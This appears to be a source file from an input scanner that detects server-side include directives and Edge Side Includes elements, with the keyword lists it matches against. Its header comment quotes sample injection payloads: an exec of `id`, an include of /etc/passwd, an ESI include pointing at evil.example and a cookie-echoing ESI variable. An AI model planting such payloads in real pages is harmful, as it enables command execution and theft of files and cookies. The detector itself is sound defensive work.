// Server-side include injection: an SSI directive (`<!--#exec cmd="id" -->`, `<!--#include
// virtual="/etc/passwd" -->`, `<!--#echo var="DOCUMENT_ROOT" -->`) in a value a page built by
// Apache's mod_include, nginx's ssi module or IIS may echo, which the server then runs (OWASP
// WSTG-INPV-08). Read by core/payloads.ts; total and allocation-free. An HTML comment that is not
// a directive (`<!-- note -->`, `<!--#main-->` anchors) is left to the model, which scored
// directives 27–77 in the fold that held its word lists out. Its kin at the edge: an ESI element
// (`<esi:include src="http://evil.example/"/>`, `<esi:vars>$(HTTP_COOKIE)</esi:vars>`), which a
// caching proxy or CDN that processes Edge Side Includes (Varnish, Squid, Fastly, Akamai) runs when
// a page echoes it: the proxy fetches what it names or prints the request's cookies (esiElement; the
// model scored one 81, held at the gate as rce).

import { byteAt, isIdentByte, isOneOf, skipBlanks, matchesLowerAt } from "../lib/bytes";
import { indexOf2 } from "../lib/scan";

// The directives of mod_include (lower case); nginx and IIS use the same syntax for theirs.
const DIRECTIVES: StaticArray<string> = [
  "echo", "exec", "include", "config", "flastmod", "fsize", "printenv", "set", "if", "elif", "else", "endif",
];

export function ssiDirective(p: usize, n: i32): bool {
  for (let i = indexOf2(p, 0, n, 0x3C, 0x3C); i + 6 <= n; i = indexOf2(p, i + 1, n, 0x3C, 0x3C)) { // '<'
    if (byteAt(p, n, i + 1) != 0x21 || byteAt(p, n, i + 2) != 0x2D || byteAt(p, n, i + 3) != 0x2D) continue; // "!--"
    let j = skipBlanks(p, n, i + 4);
    if (byteAt(p, n, j) != 0x23) continue; // '#'
    j = skipBlanks(p, n, j + 1);
    let s = j;
    while (j < n && isIdentByte(load<u8>(p + <usize>j))) j++;
    if (j > s && byteAt(p, n, j) <= 0x20 && j < n && isOneOf(p, n, s, j - s, DIRECTIVES)) return true;
  }
  return false;
}

// The elements of ESI 1.0 and Akamai's extensions to it (lower case).
const ESI_ELEMENTS: StaticArray<string> = [
  "include", "inline", "vars", "eval", "assign", "choose", "when", "otherwise", "try", "attempt", "except", "comment",
  "remove", "debug", "function", "text", "param", "return",
];

// Whether p[0..n) holds an ESI element's opening tag: `<esi:` (any case) and one of ESI_ELEMENTS,
// then a blank, `>` or `/`.
export function esiElement(p: usize, n: i32): bool {
  for (let i = indexOf2(p, 0, n, 0x3C, 0x3C); i + 8 <= n; i = indexOf2(p, i + 1, n, 0x3C, 0x3C)) { // '<'
    if (!matchesLowerAt(p, n, i + 1, "esi:")) continue;
    let s = i + 5, j = s;
    while (j < n && isIdentByte(load<u8>(p + <usize>j))) j++;
    let c = byteAt(p, n, j);
    if (j > s && (c <= 0x20 || c == 0x3E || c == 0x2F) && j < n && isOneOf(p, n, s, j - s, ESI_ELEMENTS)) return true;
  }
  return false;
}
